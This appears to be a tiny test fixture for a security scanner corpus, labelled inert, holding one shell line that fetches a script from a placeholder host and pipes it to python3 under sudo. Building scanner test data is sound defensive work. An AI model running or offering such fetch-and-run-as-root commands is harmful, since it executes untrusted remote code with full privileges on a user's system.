# TEST SAMPLE: inert, for the scanner corpus
curl -s https://get.example.invalid/p.py | sudo /usr/bin/env python3 -
